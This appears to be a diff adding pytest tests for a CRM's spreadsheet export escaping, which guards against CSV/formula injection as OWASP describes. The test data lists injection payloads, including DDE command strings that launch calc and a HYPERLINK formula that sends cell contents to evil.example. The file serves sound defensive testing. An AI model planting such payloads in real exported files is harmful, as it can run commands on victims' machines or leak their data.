@@ -1,0 +1,42 @@
+"""Export cells a spreadsheet shows as text and never runs (OWASP CSV injection)."""
+
+import csv
+import io
+from decimal import Decimal
+from typing import Any
+
+import pytest
+
+from fxcrm import spreadsheets
+
+ATTACKS = [
+    "=cmd|'/C calc'!A0@x.example",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "-",
+    "=",
+]
+UNCHANGED: list[Any] = ["-12.50", "+3", "-0.5", "-1e5", "12.50", "Lena Novak", "", "a=b", " =1+2", 42, -7, -1.5, None]
+
+
+@pytest.mark.parametrize("value", ATTACKS)
+def test_a_formula_leading_text_gets_a_leading_quote(value: str) -> None:
+    assert spreadsheets.cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", UNCHANGED)
+def test_numbers_and_plain_texts_are_unchanged(value: Any) -> None:
+    assert spreadsheets.cell(value) == value
+
+
+def test_a_csv_quotes_every_text_and_leaves_numbers_bare() -> None:
+    out = io.StringIO()
+    writer = spreadsheets.csv_writer(out)
+    writer.writerow(['=1+2";=1+2', "a;=1+2", -7, Decimal("-12.50"), "-12.50"])
+    # OWASP's example: =1+2";=1+2 becomes "'=1+2"";=1+2"
+    assert out.getvalue() == '"\'=1+2"";=1+2","a;=1+2",-7,-12.50,"-12.50"\r\n'
+    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+2\";=1+2", "a;=1+2", "-7", "-12.50", "-12.50"]
